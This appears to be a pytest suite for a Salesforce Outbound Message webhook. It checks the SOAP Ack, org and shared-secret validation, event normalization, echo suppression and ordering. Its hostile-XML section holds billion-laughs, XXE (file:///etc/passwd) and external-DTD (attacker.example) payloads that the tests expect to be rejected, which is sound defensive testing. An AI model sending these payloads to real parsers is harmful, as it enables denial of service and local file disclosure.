"""Salesforce Outbound Messages: the exact SOAP Ack, org and shared-secret checks, hostile and
malformed XML, one row per Notification, the canonical events each fixture yields, echo
suppression, out-of-order delivery and contacts waiting for their account."""

from __future__ import annotations

import dataclasses
import json
import shutil
from datetime import UTC, date, datetime
from pathlib import Path
from typing import get_args

import pytest
from sqlalchemy import select

from expansion.db import transaction
from expansion.mappings import MappingError
from expansion.models import account_attributes, account_links, canonical_events, inbox_events
from expansion.settings import Settings
from integration.app import create_app
from integration.canonical import AccountKey, Alias, CanonicalEvent, Ignored
from integration.sources.base import RawRequest
from integration.sources.salesforce import (
    NORMALIZERS,
    SOURCE,
    ObjectMapping,
    id18,
    mapping,
    outbound_message,
)
from integration.writers.mapping import owned_fields
from tests import state_support
from tests.support import FIXTURES, TEST_SECRETS, fixture_path
from workers import ingest
from workers.plans import plans
from workers.play_rules import play_rules
from workers.play_selection import PlayContext
from workers.signal_rules import signal_rules

ORG = TEST_SECRETS["SALESFORCE_ORG_ID"]
INTEGRATION_USER = TEST_SECRETS["SALESFORCE_INTEGRATION_USER_ID"]
ACME = "0018c00002AcmeQAAR"
CSM = "0058c00000CsmUsAAJ"
# What Salesforce sends with every Outbound Message.
HEADERS = {"Content-Type": "text/xml; charset=utf-8", "SOAPAction": '""'}
ACK = (
    '<?xml version="1.0" encoding="UTF-8"?><soapenv:Envelope '
    'xmlns:soapenv="http://schemas.xmlsoap.org/soap/envelope/"><soapenv:Body>'
    '<notificationsResponse xmlns="http://soap.sforce.com/2005/09/outbound"><Ack>true</Ack>'
    "</notificationsResponse></soapenv:Body></soapenv:Envelope>"
)
FIXTURE_NAMES = sorted(p.name for p in (FIXTURES / "salesforce").glob("*.xml"))


def fixture_body(name: str) -> bytes:
    return fixture_path("salesforce", name).read_bytes()


def post(client, body: bytes, **headers: str):  # type: ignore[no-untyped-def]
    return client.post("/webhooks/salesforce", data=body, headers={**HEADERS, **headers})


def client_with(settings: Settings, **changes: object):  # type: ignore[no-untyped-def]
    app = create_app(dataclasses.replace(settings, **changes))
    app.config["TESTING"] = True
    return app.test_client()


def inbox_rows(settings: Settings):  # type: ignore[no-untyped-def]
    with transaction(settings) as conn:
        return conn.execute(select(inbox_events).order_by(inbox_events.c.id)).all()


def ingest_pending(settings: Settings) -> list[ingest.Outcome]:
    return [
        ingest.process(settings, row.id) for row in inbox_rows(settings) if row.status == "pending"
    ]


def normalized(settings: Settings, name: str, client) -> list:  # type: ignore[no-untyped-def]
    assert post(client, fixture_body(name)).status_code == 200
    return [
        SOURCE.normalize(json.loads(row.payload), row.event_type, settings)
        for row in inbox_rows(settings)
    ]


def attributes(settings: Settings) -> dict[str, object]:
    with transaction(settings) as conn:
        rows = conn.execute(select(account_attributes.c.name, account_attributes.c.value)).all()
    return dict(rows)


def at(text: str) -> datetime:
    return datetime.fromisoformat(text).replace(tzinfo=UTC)


# --- The answer Salesforce needs -------------------------------------------------------------


def test_outbound_message_is_answered_with_the_exact_soap_ack(client, settings):
    response = post(client, fixture_body("Account.xml"))
    assert response.status_code == 200
    assert response.headers["Content-Type"] == "text/xml; charset=utf-8"
    assert response.get_data(as_text=True) == ACK
    assert [(r.source, r.dedup_key, r.event_type) for r in inbox_rows(settings)] == [
        ("salesforce", "04l8c00000NtfA1AAJ", "Account")
    ]


def test_redelivered_notification_gets_the_ack_and_is_stored_once(client, settings):
    body = fixture_body("Contact.xml")
    assert post(client, body).get_data(as_text=True) == ACK
    again = post(client, body)
    assert again.status_code == 200 and again.get_data(as_text=True) == ACK
    assert len(inbox_rows(settings)) == 1


def test_each_notification_of_a_message_is_one_row_with_its_time(client, settings):
    response = post(client, fixture_body("Account.three_notifications.xml"))
    assert response.get_data(as_text=True) == ACK
    rows = inbox_rows(settings)
    assert [r.dedup_key for r in rows] == [
        "04l8c00000NtfB1AAJ",
        "04l8c00000NtfB2AAJ",
        "04l8c00000NtfB3AAJ",
    ]
    assert [r.occurred_at.replace(tzinfo=UTC).second for r in rows] == [0, 1, 2]
    payload = json.loads(rows[1].payload)
    assert payload["organization_id"] == ORG and payload["action_id"] == "04k8c00000AcctOAAR"
    assert payload["fields"]["Chargebee_Customer_Id__c"] == "AzZlGSU7Ggl1o2Jt"


def test_session_id_is_never_stored(client, settings):
    body = fixture_body("Account.xml").replace(
        b'<SessionId xsi:nil="true"/>', b"<SessionId>00D000000000062!AQ4AQLive.Session</SessionId>"
    )
    assert post(client, body).status_code == 200
    (row,) = inbox_rows(settings)
    assert "Live.Session" not in row.payload


# --- Who may send ----------------------------------------------------------------------------


def test_other_org_is_403_and_not_stored(client, settings):
    body = fixture_body("Account.xml").replace(ORG.encode(), b"00D5e000000KQ2eEAG")
    response = post(client, body)
    assert response.status_code == 403
    assert response.get_json()["error"] == "unknown_tenant"
    assert inbox_rows(settings) == []


@pytest.mark.parametrize("configured", [ORG[:15], ORG.lower(), ORG])
def test_org_id_may_be_configured_as_15_or_18_characters(settings, configured):
    client = client_with(settings, salesforce_org_id=configured)
    assert post(client, fixture_body("Account.xml")).get_data(as_text=True) == ACK


def test_a_15_character_org_id_differing_in_case_is_another_org(settings):
    client = client_with(settings, salesforce_org_id=ORG[:15].lower())
    assert post(client, fixture_body("Account.xml")).status_code == 403


def test_unset_org_is_503_naming_the_variable(settings):
    response = post(client_with(settings, salesforce_org_id=None), fixture_body("Account.xml"))
    assert response.status_code == 503
    assert "SALESFORCE_ORG_ID" in response.get_json()["detail"]
    assert inbox_rows(settings) == []


def test_shared_secret_when_configured_is_required_in_its_header(settings):
    client = client_with(settings, salesforce_shared_secret="flow-callout-secret")
    body = fixture_body("Account.xml")
    missing = post(client, body)
    wrong = post(client, body, **{"X-Expansion-Webhook-Secret": "guess"})
    assert (missing.status_code, wrong.status_code) == (401, 401)
    assert "X-Expansion-Webhook-Secret" in missing.get_json()["detail"]
    assert inbox_rows(settings) == []
    right = post(client, body, **{"X-Expansion-Webhook-Secret": "flow-callout-secret"})
    assert right.get_data(as_text=True) == ACK


# --- Hostile and malformed bodies ------------------------------------------------------------

BILLION_LAUGHS = b"""<!DOCTYPE soapenv:Envelope [
 <!ENTITY lol "lol">
 <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
]>"""
EXTERNAL_ENTITY = b'<!DOCTYPE soapenv:Envelope [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'
EXTERNAL_DTD = b'<!DOCTYPE soapenv:Envelope SYSTEM "http://attacker.example/outbound.dtd">'


def _with_doctype(doctype: bytes, name_value: bytes) -> bytes:
    body = fixture_body("Account.xml").replace(b"Acme Corporation", name_value)
    declaration, _, rest = body.partition(b"\n")
    return declaration + b"\n" + doctype + b"\n" + rest


@pytest.mark.parametrize(
    "body",
    [
        _with_doctype(BILLION_LAUGHS, b"&lol4;"),
        _with_doctype(EXTERNAL_ENTITY, b"&xxe;"),
        _with_doctype(EXTERNAL_DTD, b"Acme Corporation"),
    ],
    ids=["billion-laughs", "external-entity", "external-dtd"],
)
def test_entities_and_dtds_are_refused_and_nothing_is_stored(client, settings, body):
    response = post(client, body)
    assert response.status_code == 400
    payload = response.get_json()
    assert payload["error"] == "unsafe_xml" and "DTD" in payload["detail"]
    assert inbox_rows(settings) == []


def test_malformed_xml_is_400_with_a_json_error(client, settings):
    response = post(client, fixture_body("Account.xml")[:-40])
    assert response.status_code == 400
    payload = response.get_json()
    assert set(payload) == {"error", "detail"}
    assert payload["error"] == "malformed_payload" and "XML" in payload["detail"]
    assert inbox_rows(settings) == []


@pytest.mark.parametrize(
    ("cut", "named"),
    [
        (b"<OrganizationId>00D000000000062EAA</OrganizationId>", "OrganizationId"),
        (b"<Id>04l8c00000NtfA1AAJ</Id>", "Id"),
        (b' xsi:type="sf:Account"', "xsi:type"),
    ],
)
def test_envelope_missing_a_required_part_is_400_naming_it(client, settings, cut, named):
    response = post(client, fixture_body("Account.xml").replace(cut, b""))
    assert response.status_code == 400
    assert named in response.get_json()["detail"]
    assert inbox_rows(settings) == []


def test_xml_that_is_not_an_outbound_message_is_400(client):
    response = post(client, b'<?xml version="1.0"?><invoice><id>1</id></invoice>')
    assert response.status_code == 400
    assert "notifications" in response.get_json()["detail"]


def test_message_without_notifications_or_over_100_is_400(client, settings):
    fields = {"Id": ACME, "Name": "Acme Corporation"}
    empty = outbound_message(ORG, [])
    too_many = outbound_message(
        ORG, [(id18(f"04l8c00000N{n:04d}"), "Account", fields) for n in range(101)]
    )
    assert post(client, empty).status_code == 400
    assert "101" in post(client, too_many).get_json()["detail"]
    hundred = outbound_message(
        ORG, [(id18(f"04l8c00000N{n:04d}"), "Account", fields) for n in range(100)]
    )
    assert post(client, hundred).get_data(as_text=True) == ACK
    assert len(inbox_rows(settings)) == 100


def test_wrong_content_type_is_415(client):
    response = post(client, fixture_body("Account.xml"), **{"Content-Type": "application/json"})
    assert response.status_code == 415
    assert response.get_json()["error"] == "unsupported_media_type"


# --- Canonical events per fixture ------------------------------------------------------------

DANA = CanonicalEvent(
    "contact.changed",
    AccountKey("salesforce_contact", "0038c00001ChmpRAAR"),
    at("2026-05-12T15:20:00"),
    {
        "contact_id": "0038c00001ChmpRAAR",
        "first_name": "Dana",
        "last_name": "Whitfield",
        "email": "dana.whitfield@acme.example",
        "title": "VP of Engineering",
        "role": "Champion",
        "champion": True,
        "left_company": False,
    },
    aliases=(
        Alias(
            AccountKey("salesforce_contact", "0038c00001ChmpRAAR"),
            AccountKey("salesforce", ACME),
        ),
    ),
)


EXPECTED = {
    "Account.xml": [
        CanonicalEvent(
            "account.changed",
            AccountKey("salesforce", ACME),
            at("2026-05-12T14:03:23"),
            {
                "name": "Acme Corporation",
                "industry": "Software",
                "type": "Customer - Direct",
                "employees": 850,
                "annual_revenue": 12500000.0,
                "owner_id": CSM,
            },
            links=(
                AccountKey("stripe", "cus_RAcmeCorp0001"),
                AccountKey("product", "acme-prod-7731"),
            ),
        )
    ],
    "Contact.xml": [DANA],
    # The contract's fields: dates as dates, the segment's picklist label translated, number
    # fields as whole numbers, multi-select picklists as sent ("a;b").
    "Account.contract_fields.xml": [
        CanonicalEvent(
            "account.changed",
            AccountKey("salesforce", ACME),
            at("2026-05-14T09:12:05"),
            {
                "contract_renewal_on": "2027-03-31",
                "segment": "mid_market",
                "licensed_domains": "acme.example, acme-labs.example",
                "licensed_departments": "Engineering;Product",
                "using_department": "Engineering",
                "department_headcount": 140,
                "products": "Core Platform;Work Ops",
                "g2_review_on": "2026-04-20",
            },
        )
    ],
    # Last Activity: the date of the latest task or event.
    "Contact.last_activity.xml": [
        dataclasses.replace(DANA, data={**DANA.data, "last_engaged_on": "2026-05-11"})
    ],
    "Opportunity.xml": [
        CanonicalEvent(
            "deal.closed",
            AccountKey("salesforce", ACME),
            at("2026-05-20T17:45:10"),
            {
                "opportunity_id": "0068c00000ExpWnAAJ",
                "won": True,
                "amount": 48000.0,
                "type": "Existing Customer - Upgrade",
                "stage": "Closed Won",
                "close_date": "2026-05-20",
            },
        )
    ],
    "Task.xml": [
        CanonicalEvent(
            "task.changed",
            AccountKey("salesforce", ACME),
            at("2026-05-15T10:12:44"),
            {
                "task_id": "00T8c00000TskDnEAJ",
                "expansion_key": f"{ACME}:seat_expansion:2026-05-14",
                "subject": "Expansion: Acme is at 96% of licensed seats",
                "status": "Completed",
                "completed_at": "2026-05-15T10:12:44+00:00",
            },
        )
    ],
    "Case.xml": [
        CanonicalEvent(
            "ticket.created",
            AccountKey("salesforce", ACME),
            at("2026-05-16T09:01:30"),
            {
                "ticket_id": "5008c00000CaseAAAR",
                "number": "00001042",
                "subject": "API rate limit reached on Growth plan",
                "text": "We hit the API rate limit of the Growth plan again & our sync jobs fail "
                "<nightly>.",
                "priority": "High",
                "status": "New",
                "reason": "Performance",
                "closed": False,
            },
        )
    ],
    "Lead.xml": Ignored("Salesforce Lead notifications are not mapped in sources/salesforce.yaml"),
    "Account.integration_user_echo.xml": Ignored(
        f"echo: Account last modified by the integration user {INTEGRATION_USER}"
    ),
    "Account.owned_fields_only.xml": Ignored(
        "echo: Account notification carries only fields this project owns "
        "(Expansion_Readiness_Band__c, Expansion_Readiness_Score__c, Health_Score__c)"
    ),
}


@pytest.mark.parametrize("name", sorted(EXPECTED))
def test_fixture_yields_exactly_these_canonical_events(client, settings, name):
    assert normalized(settings, name, client) == [EXPECTED[name]]


def test_every_fixture_has_expected_events():
    assert set(FIXTURE_NAMES) - set(EXPECTED) == {"Account.three_notifications.xml"}


def test_owned_fields_never_become_account_data(client, settings):
    (events,) = normalized(settings, "Account.xml", client)
    owned = owned_fields(settings, "salesforce")
    assert {"Health_Score__c", "Expansion_Readiness_Score__c"} <= owned
    assert not {key for event in events for key in event.data} & owned


def test_echo_from_the_integration_user_matches_its_15_character_id(settings):
    client = client_with(settings, salesforce_integration_user_id=INTEGRATION_USER[:15])
    post(client, fixture_body("Account.integration_user_echo.xml"))
    (outcome,) = ingest_pending(settings)
    assert outcome.status == "ignored" and outcome.detail.startswith("echo: ")
    with transaction(settings) as conn:
        assert conn.execute(select(canonical_events)).all() == []


def test_echo_of_owned_fields_only_is_ignored_and_changes_no_state(client, settings):
    post(client, fixture_body("Account.owned_fields_only.xml"))
    (outcome,) = ingest_pending(settings)
    assert outcome.status == "ignored" and outcome.detail.startswith("echo: ")
    (row,) = inbox_rows(settings)
    assert row.status == "ignored" and row.last_error.startswith("echo: ")
    assert attributes(settings) == {}


def _notify(client, notification: str, sobject: str, fields: dict) -> None:  # type: ignore[no-untyped-def]
    body = outbound_message(ORG, [(id18(notification), sobject, fields)])
    assert post(client, body).get_data(as_text=True) == ACK


def test_open_opportunity_and_foreign_task_are_ignored_with_the_reason(client, settings):
    stamp = {"LastModifiedById": CSM, "LastModifiedDate": "2026-05-20T10:00:00.000Z"}
    _notify(
        client,
        "04l8c00000OpnO1",
        "Opportunity",
        {"Id": "0068c00000OpnOp", "AccountId": ACME, "IsClosed": False, **stamp},
    )
    _notify(
        client,
        "04l8c00000Tsk01",
        "Task",
        {"Id": "00T8c00000TskXy", "AccountId": ACME, "Status": "Completed", **stamp},
    )
    opportunity, task = ingest_pending(settings)
    assert opportunity.status == "ignored" and "IsClosed is 'false'" in opportunity.detail
    assert task.status == "ignored" and "has no Expansion_Key__c" in task.detail


def test_case_edit_is_ticket_changed(client, settings):
    _notify(
        client,
        "04l8c00000CsEd1",
        "Case",
        {
            "Id": "5008c00000CaseA",
            "AccountId": ACME,
            "CreatedDate": "2026-05-16T09:01:30.000Z",
            "LastModifiedDate": "2026-05-17T12:00:00.000Z",
            "Status": "Closed",
            "IsClosed": True,
        },
    )
    (row,) = inbox_rows(settings)
    (event,) = SOURCE.normalize(json.loads(row.payload), row.event_type, settings)
    assert (event.type, event.data) == (
        "ticket.changed",
        {"ticket_id": "5008c00000CaseAAAR", "status": "Closed", "closed": True},
    )


def test_field_that_is_not_its_declared_type_dead_letters_naming_it(client, settings):
    _notify(client, "04l8c00000Bad01", "Account", {"Id": ACME, "NumberOfEmployees": "many"})
    (outcome,) = ingest_pending(settings)
    assert outcome.status == "dead"
    assert "NumberOfEmployees" in outcome.detail and "integer" in outcome.detail


# --- State: identity, ordering, parking ------------------------------------------------------


def test_15_and_18_character_account_ids_reach_one_account_stored_as_18(client, settings):
    _notify(client, "04l8c00000Id151", "Account", {"Id": ACME[:15], "Name": "Acme Corporation"})
    _notify(client, "04l8c00000Id181", "Account", {"Id": ACME, "Industry": "Software"})
    assert [o.status for o in ingest_pending(settings)] == ["processed", "processed"]
    with transaction(settings) as conn:
        links = conn.execute(select(account_links.c.kind, account_links.c.external_id)).all()
    assert links == [("salesforce", ACME)]
    assert attributes(settings) == {"crm.name": "Acme Corporation", "crm.industry": "Software"}


def test_older_notification_applied_after_a_newer_one_leaves_the_newer_state(client, settings):
    def account(industry: str, modified: str) -> dict:
        return {
            "Id": ACME,
            "Industry": industry,
            "LastModifiedById": CSM,
            "LastModifiedDate": modified,
        }

    _notify(client, "04l8c00000New01", "Account", account("Fintech", "2026-05-12T15:00:00.000Z"))
    _notify(client, "04l8c00000Old01", "Account", account("Software", "2026-05-12T09:00:00.000Z"))
    assert [o.status for o in ingest_pending(settings)] == ["processed", "processed"]
    assert attributes(settings)["crm.industry"] == "Fintech"


def test_contact_waits_for_its_account_then_is_applied(client, settings):
    post(client, fixture_body("Contact.xml"))
    assert [o.status for o in ingest_pending(settings)] == ["processed"]
    with transaction(settings) as conn:
        assert conn.execute(select(canonical_events.c.status)).scalar_one() == "parked"
    post(client, fixture_body("Account.xml"))
    assert [o.status for o in ingest_pending(settings)] == ["processed"]
    with transaction(settings) as conn:
        statuses = dict(
            conn.execute(select(canonical_events.c.type, canonical_events.c.status)).all()
        )
        links = set(conn.execute(select(account_links.c.kind, account_links.c.external_id)).all())
    assert statuses == {"contact.changed": "applied", "account.changed": "applied"}
    assert links == {
        ("salesforce", ACME),
        ("stripe", "cus_RAcmeCorp0001"),
        ("product", "acme-prod-7731"),
    }
    state = attributes(settings)
    assert state["contact.0038c00001ChmpRAAR.title"] == "VP of Engineering"
    assert state["contact.0038c00001ChmpRAAR.champion"] is True
    assert "crm.health_score" not in state and state["crm.name"] == "Acme Corporation"


# --- The mapping -----------------------------------------------------------------------------


def _mapping_with(settings: Settings, tmp_path: Path, old: str, new: str) -> Settings:
    text = (settings.mappings_dir / "sources" / "salesforce.yaml").read_text()
    assert old in text
    (tmp_path / "sources").mkdir()
    (tmp_path / "sources" / "salesforce.yaml").write_text(text.replace(old, new, 1))
    shutil.copy(settings.mappings_dir / "salesforce.yaml", tmp_path)  # the fields we write
    return dataclasses.replace(settings, mappings_dir=tmp_path)


def test_mapping_that_reads_an_owned_field_is_rejected_naming_file_and_key(settings, tmp_path):
    broken = _mapping_with(
        settings, tmp_path, "      Name: name\n", "      Health_Score__c: health\n"
    )
    with pytest.raises(MappingError) as error:
        mapping(broken)
    assert "salesforce.yaml" in str(error.value)
    assert "objects.Account.fields.Health_Score__c" in str(error.value)


def test_mapping_with_an_unknown_event_or_type_names_the_key_path(settings, tmp_path):
    broken = _mapping_with(settings, tmp_path, "type: integer}", "type: int}")
    with pytest.raises(MappingError) as error:
        mapping(broken)
    assert "objects.Account.fields.NumberOfEmployees.type" in str(error.value)


# --- Ids and the renderer --------------------------------------------------------------------


def test_id18_converts_15_characters_and_restores_case_of_18():
    assert id18("0018c00002AcmeQ") == ACME
    assert id18(ACME.lower()) == ACME
    assert id18(ACME) == ACME
    with pytest.raises(ValueError, match="Salesforce id"):
        id18("0018c00002Acme")


@pytest.mark.parametrize("name", FIXTURE_NAMES)
def test_fixture_ids_carry_their_real_checksums(name):
    text = fixture_body(name).decode()
    ids = [
        value
        for tag in ("Id", "OrganizationId", "ActionId", "AccountId", "OwnerId", "LastModifiedById")
        for value in _values(text, tag)
    ]
    assert ids and all(id18(value[:15]) == value for value in ids)


def _values(text: str, tag: str) -> list[str]:
    values = []
    for opener in (f"<{tag}>", f"<sf:{tag}>"):
        for part in text.split(opener)[1:]:
            values.append(part.split("<", 1)[0])
    return values


@pytest.mark.parametrize("name", FIXTURE_NAMES)
def test_outbound_message_renders_each_fixture_byte_for_byte(settings, name):
    body = fixture_body(name)
    raw = RawRequest("POST", "http://x/webhooks/salesforce", HEADERS, body, datetime.now(UTC))
    items = SOURCE.parse(raw, settings)
    rendered = outbound_message(
        ORG,
        [(i.dedup_key, i.event_type, i.payload["fields"]) for i in items],
        action_id=items[0].payload["action_id"],
    )
    assert rendered == body


def test_org_setting_that_is_not_a_salesforce_id_is_503(settings):
    response = post(
        client_with(settings, salesforce_org_id="acme-prod"), fixture_body("Account.xml")
    )
    assert response.status_code == 503
    assert "SALESFORCE_ORG_ID" in response.get_json()["detail"]


def test_every_event_the_mapping_accepts_has_a_normalizer():
    accepted = get_args(ObjectMapping.model_fields["event"].annotation)
    assert set(accepted) == set(NORMALIZERS)


# --- The contract's fields in account state ----------------------------------------------------

CRM_RENEWAL, STRIPE_RENEWAL = date(2027, 3, 31), date(2026, 11, 16)
TODAY = date(2026, 5, 20)


def state_after(settings: Settings, *fixtures: tuple[str, str]):  # type: ignore[no-untyped-def]
    """The test account's state after the fixtures' events, applied in the order given."""
    for source, name in fixtures:
        for item in state_support.normalized(settings, source, name):
            state_support.apply(settings, item)
    return state_support.loaded(settings, TODAY)


@pytest.mark.parametrize("crm_first", [False, True], ids=["billing_first", "crm_first"])
def test_the_crm_renewal_date_wins_over_the_annual_billing_period_in_any_order(settings, crm_first):
    fixtures = [("stripe", "customer.subscription.updated.json")]
    fixtures.insert(0 if crm_first else 1, ("salesforce", "Account.contract_fields.xml"))
    state = state_after(settings, *fixtures)
    assert state.subscription is not None
    assert (state.subscription.renewal_on, state.days_to_renewal()) == (CRM_RENEWAL, 315)
    # The billing snapshot still applies in full when the CRM's date came first.
    assert (state.subscription.seats, state.subscription.tier) == (50, "growth")

    cleared = state_support.event(
        "account.changed", datetime(2026, 5, 15, tzinfo=UTC), contract_renewal_on=None
    )
    assert state_support.apply(settings, cleared)
    state = state_support.loaded(settings, TODAY)
    assert state.subscription is not None and state.subscription.renewal_on == STRIPE_RENEWAL


def test_monthly_billing_gives_no_renewal_date_and_the_crm_date_then_counts(settings):
    monthly = state_support.event(
        "subscription.changed",
        datetime(2026, 5, 1, tzinfo=UTC),
        status="active",
        seats=20,
        tier="growth",
        renewal_at=None,
    )
    state_support.apply(settings, monthly)
    assert state_support.loaded(settings, TODAY).days_to_renewal() is None
    state = state_after(settings, ("salesforce", "Account.contract_fields.xml"))
    assert state.subscription is not None
    assert (state.subscription.renewal_on, state.subscription.seats) == (CRM_RENEWAL, 20)


def test_a_crm_renewal_date_alone_gives_the_account_its_renewal(settings):
    state = state_after(settings, ("salesforce", "Account.contract_fields.xml"))
    assert state.days_to_renewal() == (CRM_RENEWAL - TODAY).days


def test_contract_fields_reach_the_fields_signals_and_plays_read(settings):
    state = state_after(settings, ("salesforce", "Account.contract_fields.xml"))
    fields = signal_rules(settings).crm_fields
    assert {
        name: state.crm.get(getattr(fields, name))
        for name in ("licensed_domains", "licensed_departments", "products")
    } == {
        "licensed_domains": "acme.example, acme-labs.example",
        "licensed_departments": "Engineering;Product",
        "products": "Core Platform;Work Ops",
    }
    assert state.crm[fields.department_headcount] == 140
    assert state.crm[fields.using_department] == "Engineering"
    assert [state.crm.get(name) for name in fields.advocacy] == ["2026-04-20", None, None, None]

    rules = play_rules(settings)
    context = PlayContext.from_state(state, rules, plans(settings))
    assert context.segment == "mid_market"
    overridden = [
        (step.due_days(None), step.due_days(context.segment))
        for play in rules.plays.values()
        for step in play.steps
        if "mid_market" in step.due_by_segment
    ]
    assert overridden and all(default != own for default, own in overridden)


def test_last_activity_date_is_when_the_contact_was_last_engaged(settings):
    state = state_after(
        settings,
        ("salesforce", "Account.contract_fields.xml"),
        ("salesforce", "Contact.last_activity.xml"),
    )
    (contact,) = state.contacts
    assert contact.last_engaged_on == date(2026, 5, 11)
